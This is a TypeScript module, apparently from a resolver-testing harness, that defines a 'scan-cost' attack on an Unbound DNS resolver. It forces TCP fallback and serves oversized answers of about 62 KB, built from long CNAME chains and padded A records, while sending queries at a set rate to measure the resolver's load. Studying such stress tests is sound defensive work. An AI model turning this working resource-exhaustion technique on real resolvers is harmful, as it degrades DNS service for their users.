import type { Attack, Setting } from "../frame/attack.ts";
import { EVIL_ZONES } from "../frame/places.ts";
import {
  framed,
  pointer,
  query,
  questionOf,
  readdressed,
  record,
  reply,
  soa,
  truncated,
  TYPE,
  u32,
  wireName,
} from "../frame/wire.ts";

const ALIASES = 8;
/** Leaves room for a resolver's additions to the largest message. */
const BYTES = 62_500;
/** Octets that must pass the resolver, and how often that is checked. */
const LEAST_BYTES = 60_000;
const PROBE_TRIES = 50;
const TTL = 3600;
const HEADER = 12;
const ADDRESS_RECORD = 16;
const TAIL = `${Array.from({ length: 110 }, () => "a").join(".")}.${EVIL_ZONES.udp}`;
const CHAIN = Array.from({ length: ALIASES }, (_, i) => `${String.fromCharCode(98 + i)}.${TAIL}`);

/** Eight aliases with names of 120 labels, and as many addresses as fit: all valid. */
export function longAnswer(message: Uint8Array): Uint8Array {
  const { name, end } = questionOf(message);
  const place = CHAIN.indexOf(name);
  const names = place === -1 ? CHAIN : CHAIN.slice(place + 1);
  const answers: Uint8Array[] = [];
  let size = end;
  let owner = HEADER;
  for (const target of names) {
    const alias = record(pointer(owner), TYPE.CNAME, TTL, wireName(target));
    owner = size + HEADER;
    size += alias.length;
    answers.push(alias);
  }
  for (; size + ADDRESS_RECORD < BYTES; size += ADDRESS_RECORD) {
    answers.push(record(pointer(owner), TYPE.A, TTL, u32(0x0a000000 + answers.length)));
  }
  return reply(message, { answers });
}

/** Answers by name: those of the chain, and one for all names at its start. */
const made = new Map<string, Uint8Array>();

function answerOnce(message: Uint8Array): Uint8Array {
  const { name, end } = questionOf(message);
  const key = CHAIN.includes(name) ? name : String(end);
  const template = made.get(key) ?? longAnswer(message);
  made.set(key, template);
  return readdressed(template, message);
}

const SETTING: Setting = { unbound: true };

/** The attack at a rate of queries per second. */
export function scanCost(rate: number): Attack {
  return {
    name: `scan-cost-${rate}`,
    summary:
      `${rate} names a second of a zone whose answers, through an honest unbound, are 62 KB.`,
    setting: SETTING,
    upstream(message, transport) {
      const { type } = questionOf(message);
      if (type !== TYPE.A) return reply(message, { authority: [soa(5)] });
      return transport === "udp" ? truncated(message) : answerOnce(message);
    },
    async attack({ udp, tcp, paced, pause }) {
      const run = String(Math.random()).slice(2, 10);
      const name = (n: number) => `r${String(n).padStart(4, "0")}-${run}.${EVIL_ZONES.udp}`;
      // Once over TCP, to check that the large answer arrives at all.
      const whole = tcp();
      await pause(20);
      whole.send(framed(query(name(0))));
      let octets = 0;
      for (let tries = 0; octets < LEAST_BYTES && tries < PROBE_TRIES; tries++) {
        await pause(20);
        octets += whole.drain().bytes;
      }
      const socket = udp();
      let answered = 0;
      const asked = await paced(
        rate,
        (n) => socket.send(query(name(n + 1))),
        () => answered += socket.drain().count,
      );
      return { asked, answered, "octets of one answer": octets };
    },
    judge: ({ facts }) =>
      Number(facts["octets of one answer"]) >= LEAST_BYTES
        ? []
        : [`the large answer had ${facts["octets of one answer"]} octets: nothing was tried`],
  };
}
